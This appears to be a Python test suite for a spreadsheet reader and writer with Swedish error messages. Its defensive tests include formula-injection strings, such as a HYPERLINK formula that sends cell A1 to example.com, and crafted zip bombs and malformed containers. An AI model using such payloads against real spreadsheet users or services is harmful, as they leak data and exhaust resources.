"""Tables as files: what is written comes back, and what is sent cannot do harm."""

import csv
import struct
import subprocess
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from io import BytesIO, StringIO
from typing import Any

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from samlad.base.fields import FORBIDDEN
from samlad.base.refusals import Refusal
from samlad.base.tables import (
    Column,
    Limits,
    Table,
    Value,
    day_of,
    letters,
    pick,
    read_table,
    whole_of,
    write_csv,
    write_xlsx,
)
from samlad.base.tables.formulas import marked, neutralised, restored

COLUMNS = [Column("Nummer"), Column("Text", 30, wraps=True), Column("Dag")]
DAY = date(2026, 11, 22)
# Each begins as a formula does, or would be taken for one that has been neutralised.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1;"Klicka")',
    "+46 70",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "'=1",
    "''=1",
    "'",
    "'text",
    'citat "; och ;',
    "två\nrader",
    "_x000D_",
    "Ä=1",
)
# In a spreadsheet's file a line break is one sign, whichever it was.
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=40).map(
    lambda text: FORBIDDEN.sub("", text)
)
BEGINNINGS = st.sampled_from(["", "'", "''", "=", "'=", "+", "-", "@", "\t", "＝", "'＠"])


def excel(rows: Sequence[Sequence[Value]], columns: Sequence[Column] = COLUMNS) -> bytes:
    return write_xlsx(columns, rows, sheet="Blad")


def comma(rows: Sequence[Sequence[Value]]) -> bytes:
    return write_csv(COLUMNS, rows)


WRITERS = pytest.mark.parametrize("write", [excel, comma], ids=["excel", "csv"])


def cells(table: Table) -> list[list[str]]:
    return [list(row.cells) for row in table.rows]


@WRITERS
def test_what_is_written_comes_back(write: Callable[..., bytes]) -> None:
    table = read_table(write([[12000, text, DAY] for text in FORMULAS] + [[None, "sist", None]]))
    assert list(table.heads) == ["Nummer", "Text", "Dag"]
    assert [row.cells[1] for row in table.rows] == [*FORMULAS, "sist"]
    assert [row.number for row in table.rows] == list(range(2, len(FORMULAS) + 3))
    first, last = table.rows[0].cells, table.rows[-1].cells
    assert (whole_of(first[0]), day_of(first[2])) == (12000, DAY)
    assert (last[0], last[2]) == ("", "")


@given(st.lists(st.tuples(BEGINNINGS, TEXTS), max_size=8))
@settings(max_examples=200, deadline=None)
def test_any_text_comes_back_from_csv(texts: list[tuple[str, str]]) -> None:
    said = ["".join(parts) for parts in texts]
    table = read_table(comma([[1, text, None] for text in said]))
    assert [row.cells[1] for row in table.rows] == said


@given(st.lists(st.tuples(BEGINNINGS, TEXTS), min_size=1, max_size=60))
@settings(max_examples=4, deadline=None)
def test_any_text_comes_back_from_excel(texts: list[tuple[str, str]]) -> None:
    said = ["".join(parts) for parts in texts]
    table = read_table(excel([[1, text, None] for text in said]))
    assert [row.cells[1] for row in table.rows] == said


@given(BEGINNINGS, TEXTS)
def test_nothing_that_is_written_as_csv_is_a_formula(beginning: str, text: str) -> None:
    written = neutralised(beginning + text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert restored(written) == restored(marked(beginning + text)) == beginning + text


def test_csv_is_what_a_swedish_excel_opens() -> None:
    written = comma([[7, "=1+1", DAY], [-5, 'Å "b"; c', None]])
    assert written.startswith(b"\xef\xbb\xbf")
    assert written.decode("utf-8-sig") == ('Nummer;Text;Dag\r\n7;\'=1+1;2026-11-22\r\n-5;"Å ""b""; c";\r\n')


def test_excel_has_texts_days_and_numbers_and_no_formula() -> None:
    with zipfile.ZipFile(BytesIO(excel([[7, "=1+1", DAY], [10**17, "b", date(1850, 1, 1)]]))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<v>7</v>" in sheet
    assert "<v>46348</v>" in sheet  # 22 November 2026 as Excel counts days
    assert 'state="frozen"' in sheet
    assert "1850-01-01" in sheet
    assert "100000000000000000" in sheet


def test_a_formula_in_a_file_is_read_as_what_it_gave() -> None:
    out = BytesIO()
    book = xlsxwriter.Workbook(out)
    page = book.add_worksheet()
    page.write_row(2, 0, ["A", "B"])
    page.write_formula(4, 0, "=1+1", None, 2)
    page.write_string(4, 1, "text")
    book.close()
    table = read_table(out.getvalue())
    assert (cells(table), table.rows[0].number, table.heads_row) == ([["2", "text"]], 5, 3)


NAMES = "".join(
    f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for name in ("office", "table", "text", "manifest")
)
# As office programs write them: no line breaks between cells.
ROW = (
    '<table:table-row{repeated}><table:table-cell office:value-type="string"><text:p>{text}</text:p>'
    '</table:table-cell><table:table-cell office:value-type="date" office:date-value="2026-11-22">'
    "<text:p>22 nov</text:p></table:table-cell></table:table-row>"
)


def ods(rows: str, **more: str) -> bytes:
    sheet = f'<table:table table:name="Blad">{rows}</table:table>'
    body = f"<office:body><office:spreadsheet>{sheet}</office:spreadsheet></office:body>"
    parts = {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": f"<manifest:manifest{NAMES}/>",
        "content.xml": f"<office:document-content{NAMES}>{body}</office:document-content>",
    }
    return packed({**parts, **more})


def packed(parts: dict[str, str | bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as container:
        for name, content in parts.items():
            container.writestr(name, content)
    return out.getvalue()


def test_ods_is_read() -> None:
    rows = "".join(ROW.format(text=text, repeated="") for text in ("Ett", "två"))
    table = read_table(ods(rows))
    assert table.heads[0] == "Ett"
    assert table.rows[0].cells[0] == "två"
    assert day_of(table.rows[0].cells[1]) == DAY


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_csv_of_any_program(delimiter: str, encoding: str) -> None:
    out = StringIO(newline="")
    csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows(
        [["Område, namn", "Läge; nu"], ["Ängsbacken", "två\nrader"], [], ["", "sist"]]
    )
    table = read_table(out.getvalue().encode(encoding))
    assert list(table.heads) == ["Område, namn", "Läge; nu"]
    assert [(row.number, row.cells[1]) for row in table.rows] == [(2, "två\nrader"), (4, "sist")]


def lying(data: bytes, name: str, size: int) -> bytes:
    """A container whose directory says that a part is of another size."""
    with zipfile.ZipFile(BytesIO(data)) as container:
        real = container.getinfo(name).file_size
    return data.replace(struct.pack("<I", real), struct.pack("<I", size))


def bomb(megabytes: int) -> bytes:
    return packed({"xl/workbook.xml": "<a/>", "xl/worksheets/sheet1.xml": b"\0" * megabytes * 1024 * 1024})


def corners() -> bytes:
    """A few kilobytes that ask for seventeen thousand million cells."""
    out = BytesIO()
    book = xlsxwriter.Workbook(out)
    page = book.add_worksheet()
    page.write(0, 0, "A")
    page.write(1_048_575, 16_383, "B")
    book.close()
    return out.getvalue()


def encrypted() -> bytes:
    data = bytearray(excel([[1, "a", None]]))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
SMALL = Limits(unpacked=2 * 1024 * 1024, rows=3, columns=4, characters=100)
REPEATED = ' table:number-rows-repeated="1048576"'
BAD: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "Filen är tom"),
    "blank lines": (b"\r\n;;\r\n", "Filen är tom"),
    "picture": (b"\x89PNG\r\n\x1a\n\0\0", "inget Excel- eller CSV-dokument"),
    "no zip": (b"PK\x03\x04" + b"x" * 99, "inget Excel- eller CSV-dokument"),
    "zip of something": (packed({"brev.txt": "Hej"}), "inget Excel- eller CSV-dokument"),
    "undefined in 1252": (b"a;b\n\x81;1\n", "inget Excel- eller CSV-dokument"),
    "bomb": (bomb(3), "för stor när den packas upp"),
    "bomb that lies": (lying(bomb(3), "xl/worksheets/sheet1.xml", 9), "för stor när den packas upp"),
    "many files": (packed({str(n): "" for n in range(1001)}), "för stor när den packas upp"),
    "corners": (corners(), "skadad eller för stor"),
    "damaged": (packed({"xl/workbook.xml": "<a/>"}), "skadad eller för stor"),
    "repeated": (ods(ROW.format(text="x", repeated=REPEATED)), "för många rader"),
    "password": (encrypted(), "skyddad med lösenord"),
    "password, as Excel does": (OLE + "EncryptedPackage".encode("utf-16-le"), "skyddad med lösenord"),
    "password, ods": (ods("", **{"META-INF/manifest.xml": "<m:encryption-data/>"}), "skyddad med lösenord"),
    "old": (OLE, "äldre Excel-format"),
    "rows": (b"A\n" + b"1\n" * 4, "för många rader. Högst 3"),
    "rows, excel": (excel([[n, "a", None] for n in range(5)]), "för många rader. Högst 3"),
    "blank rows": (b"A\n" + b"\n" * 20, "för många rader"),
    "columns": (b"A;B;C;D;E\n", "för många kolumner. Högst 4"),
    "text": (b"A\n" + b"x" * 101, "för mycket text"),
    "text, excel": (excel([[1, "x" * 101, None]]), "för mycket text"),
    "double": (b"A;B; a \n1;2;3\n", "”a” finns två gånger"),
    "no head": (b"A;;C\n1;2;3\n", "Rad 2 har något i kolumn B"),
    "too long": (b"A;B\n1;2;3\n", "Rad 2 har något i kolumn C"),
    "quote": (b'A;B\n1;2\n"3;4\n', "citattecken"),
}


@pytest.mark.parametrize(("data", "told"), BAD.values(), ids=BAD.keys())
def test_what_is_refused(data: bytes, told: str) -> None:
    with pytest.raises(Refusal) as refusal:
        read_table(data, SMALL)
    assert told in refusal.value.text


def test_too_large_to_be_looked_at() -> None:
    with pytest.raises(Refusal) as refusal:
        read_table(b"x" * (10 * 1024 * 1024 + 1))
    assert "högst 10 MB" in refusal.value.text


def test_the_reader_of_sheets_is_given_no_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = list[dict[str, str]]()
    run = subprocess.run

    def noted(*args: Any, **kwargs: Any) -> Any:
        seen.append(kwargs["env"])
        return run(*args, **kwargs)

    monkeypatch.setattr(subprocess, "run", noted)
    read_table(excel([[1, "a", None]]))
    assert seen
    assert not [name for name in seen[0] if name.startswith("SAMLAD")]


KNOWN = {"due": ["Klar senast", "Due"], "area": ["Område", "Area"], "more": ["Plats"]}


@pytest.mark.parametrize(
    ("heads", "told"),
    [
        (["Område"], "Kolumnen ”Klar senast” saknas. Ge"),
        (["Område", "X", "Klart senast"], "Kolumnen ”Klar senast” saknas. I kolumn C står ”Klart senast”"),
        (["Klar senast", "Omrade"], "Kolumnen ”Område” saknas. I kolumn B står ”Omrade”"),
        (["Klar senast", "Område", "Platsen"], "Kolumnen ”Plats” saknas. I kolumn C står ”Platsen”"),
        (["Klar senast", "Due", "Område"], "Kolumnen ”Due” finns två gånger"),
    ],
)
def test_a_column_that_is_missing_or_renamed(heads: list[str], told: str) -> None:
    with pytest.raises(Refusal) as refusal:
        pick(heads, KNOWN, ["due", "area"])
    assert told in refusal.value.text


def test_columns_are_found_in_any_order_and_language() -> None:
    found = pick(["Anteckning", "area", "KLAR  SENAST"], KNOWN, ["due", "area"])
    assert (found.places, found.others) == ({"area": 1, "due": 2}, {"Anteckning": 0})


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2026-11-22", DAY),
        (" 2026-11-22 00:00:00 ", DAY),
        ("2026-11-22T00:00:00.000", DAY),
        ("2026-11-22 10:05:00", None),
        ("2026-02-30", None),
        ("22/11 2026", None),
        ("", None),
        ("٢٠٢٦-11-22", None),
    ],
)
def test_days(text: str, day: date | None) -> None:
    assert day_of(text) == day


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("12000", 12000),
        ("12 000", 12000),
        ("12\u00a0000 kr", 12000),
        ("12000.0", 12000),
        ("12000,00", 12000),
        ("−5", -5),
        ("12,5", None),
        ("1e3", None),
        ("", None),
        ("9" * 16, None),
    ],
)
def test_whole_numbers(text: str, number: int | None) -> None:
    assert whole_of(text) == number


def test_letters_of_columns() -> None:
    assert [letters(place) for place in (0, 25, 26, 51, 701, 702)] == ["A", "Z", "AA", "AZ", "ZZ", "AAA"]


def test_decimals_are_numbers_in_both_kinds_of_file() -> None:
    """With a comma in CSV, as a Swedish Excel reads them."""
    columns = [Column("Andel")]
    assert write_csv(columns, [[0.125], [-3.5]]).decode("utf-8-sig").split() == ["Andel", "0,125", "-3,5"]
    book = zipfile.ZipFile(BytesIO(write_xlsx(columns, [[0.125]], sheet="Tal")))
    assert b"<v>0.125</v>" in book.read("xl/worksheets/sheet1.xml")
